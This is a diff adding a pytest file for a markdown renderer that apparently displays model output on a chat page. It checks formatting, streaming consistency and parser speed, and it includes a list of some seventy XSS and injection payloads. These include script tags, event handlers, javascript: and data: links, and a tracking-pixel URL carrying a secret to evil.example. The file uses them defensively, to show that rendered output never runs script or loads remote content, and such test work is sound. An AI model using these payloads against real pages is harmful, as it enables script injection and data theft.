@@ -1,0 +1,251 @@
+"""Markdown on the page: what it looks like, that growing changes nothing, and that no text can do anything."""
+
+import json
+from pathlib import Path
+
+import pytest
+
+HTML = """({rendered}, text) => {
+  const box = document.createElement("div");
+  box.append(...rendered(text));
+  return box.innerHTML;
+}"""
+
+GROWN = """({Prose, rendered}, {text, size}) => {
+  const [grown, whole] = [document.createElement("div"), document.createElement("div")];
+  const prose = new Prose(grown);
+  for (let at = size; at < text.length; at += size) prose.show(text.slice(0, at));
+  prose.show(text, {open: false});
+  whole.append(...rendered(text));
+  return [grown.innerHTML, whole.innerHTML];
+}"""
+
+CASES = [
+    ("# Title", "<h3>Title</h3>"),
+    ("**bold** *lean* ~~gone~~ `a*b`", "<p><strong>bold</strong> <em>lean</em> <del>gone</del> <code>a*b</code></p>"),
+    ("***both***", "<p><strong><em>both</em></strong></p>"),
+    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
+    ("- one\n- two\n  - three", "<ul><li>one</li><li>two<ul><li>three</li></ul></li></ul>"),
+    ("2. two\n3. three", '<ol start="2"><li>two</li><li>three</li></ol>'),
+    ("1. one\n\n2. two", "<ol><li>one</li><li>two</li></ol>"),
+    ("> said\n> twice", "<blockquote><p>said\ntwice</p></blockquote>"),
+    ("```py\nx = '<b>'\n```", '<pre tabindex="0" data-language="py"><code>x = \'&lt;b&gt;\'</code></pre>'),
+    ("```\nnever closed", '<pre tabindex="0"><code>never closed</code></pre>'),
+    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
+    ("one  \ntwo", "<p>one<br>\ntwo</p>"),
+    ("&lt;tag&gt; &amp; more", "<p>&lt;tag&gt; &amp; more</p>"),
+    ("\\*not lean\\*", "<p>*not lean*</p>"),
+    ("It is so [1].", '<p>It is so&nbsp;<span class="mark" data-marker="[1]">1</span>.</p>'),
+    ("a [ bracket ] alone", "<p>a [ bracket ] alone</p>"),
+]
+
+
+@pytest.mark.parametrize(("text", "html"), CASES)
+def test_what_it_looks_like(module, text, html):
+    assert module(HTML, "prose.js", text) == html
+
+
+def test_a_table(module):
+    html = module(HTML, "prose.js", "| a | b |\n|---|--:|\n| 1 | `x|y` |\n| 2 |")
+    assert "<th>a</th>" in html
+    assert '<td class="right"><code>x|y</code></td>' in html
+    assert html.count("<td") == 4
+
+
+def test_a_link_tells_where_it_leads(module):
+    html = module(HTML, "prose.js", "[your bank](https://evil.example/login) and https://a.example/b.")
+    assert 'data-host="evil.example"' in html
+    assert 'rel="noopener noreferrer nofollow"' in html
+    assert ">https://a.example/b</a>." in html
+
+
+# Everything that was seen to run script, load something, or hide something, somewhere.
+ATTACKS = [
+    "<script>document.title='x'</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data='data:text/html,<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example>",
+    "<form action=https://evil.example><button>go</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<details open ontoggle=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "</p></div></main><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x]( javascript:alert(1) )",
+    "[x](<javascript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](blob:https://evil.example/1)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/relative)",
+    "[x](/runs/1/stop)",
+    "[x](?thread=1)",
+    "[x](intent://evil#Intent;end)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/pixel.png)",
+    "![x](https://evil.example/?secret=token)",
+    "![x](javascript:alert(1))",
+    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    '[x](https://a.example/"onmouseover="alert(1))',
+    "[x](https://a.example/'onmouseover='alert(1) 'title')",
+    '[x](https://a.example "title\\" onclick=alert(1) x=\\"")',
+    "[<img src=x onerror=alert(1)>](https://a.example)",
+    "`<img src=x onerror=alert(1)>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "```<script>alert(1)</script>\nx\n```",
+    '```"onmouseover="alert(1)\nx\n```',
+    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
+    "> <script>alert(1)</script>",
+    "- <img src=x onerror=alert(1)>",
+    "# <img src=x onerror=alert(1)>",
+    "**<img src=x onerror=alert(1)>**",
+    "[1]: javascript:alert(1)\n\n[x][1]",
+    "[ref]: https://evil.example\n\n![x][ref]",
+    '[1](javascript:alert(1)) [2]" onclick="alert(1)',
+    "<a\nhref=javascript:alert(1)>x</a>",
+    "<x onclick=alert(1) style=position:fixed;inset:0>click",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)</script>",
+    "mailto:x@a.example?body=<script>alert(1)</script>",
+    "https://a.example/<script>alert(1)</script>",
+    "https://a.example/\u202egnp.exe",
+    "<https://a.example/' onclick='alert(1)>",
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
+    "__proto__ [x](https://a.example){onclick=alert(1)}",
+    "\u2028<script>\u2029alert(1)</script>",
+    "\x00<script>alert(1)</script>",
+]
+
+BLOCKS = {"P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "HR", "DIV"}
+TABLES = {"TABLE", "THEAD", "TBODY", "TR", "TH", "TD"}
+TAGS = BLOCKS | TABLES | {"A", "SPAN", "STRONG", "EM", "DEL", "BR", "CODE"}
+ATTRIBUTES = {
+    "href",
+    "title",
+    "target",
+    "rel",
+    "data-host",
+    "class",
+    "data-marker",
+    "data-language",
+    "tabindex",
+    "start",
+}
+
+DOOR = """({Prose}, text) => {
+  const box = document.querySelector("#turns").appendChild(document.createElement("div"));
+  const prose = new Prose(box);
+  for (let at = 1; at < text.length; at += 3) prose.show(text.slice(0, at));
+  prose.show(text, {open: false});
+  const every = [...box.querySelectorAll("*")];
+  const found = {
+    tags: every.map((element) => element.tagName),
+    attributes: every.flatMap((element) => element.getAttributeNames()),
+    links: every.filter((element) => element.href).map((element) => element.protocol),
+    text: box.textContent,
+  };
+  for (const element of every) element.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
+  return found;
+}"""
+
+
+def test_model_output_never_runs_loads_or_navigates(module, visit, files):
+    page = visit(files)
+    page.on("dialog", lambda dialog: (_ for _ in ()).throw(AssertionError(dialog.message)))
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    for attack in ATTACKS:
+        found = page.evaluate(f"async (given) => ({DOOR})(await import('/prose.js'), given)", attack)
+        assert set(found["tags"]) <= TAGS, attack
+        assert set(found["attributes"]) <= ATTRIBUTES, attack
+        assert set(found["links"]) <= {"https:", "http:", "mailto:"}, attack
+    page.wait_for_timeout(300)
+    assert not [url for url in asked if not url.startswith(files)]
+    assert page.url == files
+    assert page.title() == "Mainstem"
+
+
+INNER = """() => {
+  try {
+    document.body.innerHTML = "<b>x</b>";
+    return "made";
+  } catch (error) {
+    return error.name;
+  }
+}"""
+
+
+def test_the_page_itself_cannot_make_elements_from_text(visit, files):
+    page = visit(files)
+    assert page.evaluate(INNER) == "TypeError"
+    sources = [file.read_text() for file in (Path(__file__).parents[3] / "mainstem/web/page").glob("*.js")]
+    for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
+        assert not any(word in source for source in sources), word
+
+
+LONG = 20_000
+PIECES = "[|![|[a](|*a |**a*|_|`|` `` ``` |> |- |1. |a\n- |[a](<b|\\|<https://|http://|`a|\n|#|~~~|&amp|[1]|!|<br>"
+HOPELESS = [piece * LONG for piece in PIECES.split("|")]
+HOPELESS += ["a|b\n" * LONG, "|a" * LONG + "\n" + "|-" * LONG, " " * LONG + "x"]
+HOPELESS += ["[[a](http://u)" * 3000 + "]" * 3000 + "(http://x)"]
+
+PARSED = """({blocks}, texts) => texts.map((text) => {
+  const begin = performance.now();
+  for (const open of [false, true]) blocks(text, {open});
+  return performance.now() - begin;
+})"""
+
+
+def test_no_text_makes_the_parser_hang(module):
+    """Ten times the text takes about ten times as long: what is quadratic would take minutes here."""
+    took = module(PARSED, "markdown.js", HOPELESS)
+    print("slowest ms:", sorted(zip(map(round, took), (text[:8] for text in HOPELESS), strict=True))[-3:])
+
+
+@pytest.mark.parametrize("size", [1, 5, 64])
+def test_growing_gives_what_the_whole_gives(module, size):
+    docs = Path(__file__).parents[3] / "docs"
+    for text in [
+        "\n\n".join(text for text, _ in CASES),
+        *[(docs / name).read_text() for name in ("laws.md", "testing.md")],
+    ]:
+        grown, whole = module(GROWN, "prose.js", {"text": text[:6000], "size": size})
+        assert grown == whole
+
+
+def test_what_is_settled_is_never_made_again(module):
+    """Nodes of settled blocks stay the same objects, so that a selection and the reader's place survive."""
+    code = """({Prose}, text) => {
+      const box = document.createElement("div");
+      const prose = new Prose(box);
+      prose.show("first\\n\\nsecond begins");
+      const [first, second] = [box.children[0], box.children[1]];
+      const words = second.firstChild;
+      prose.show("first\\n\\nsecond begins and **goes** on\\n\\nthird");
+      return [box.children[0] === first, box.children[1] === second, second.firstChild === words, box.children.length];
+    }"""
+    assert module(code, "prose.js") == [True, True, True, 3]
+
+
+def test_what_is_still_open_is_shown_as_if_closed(module):
+    code = """({blocks}, text) => JSON.stringify(blocks(text, {open: true}).map((block) => block.tree))"""
+    assert "strong" in module(code, "markdown.js", "some **bold te")
+    assert "*" not in module(code, "markdown.js", "some **bold**, and *")
+    assert json.loads(module(code, "markdown.js", "see [here](https://exa"))[0]["children"][1]["tag"] == "span"
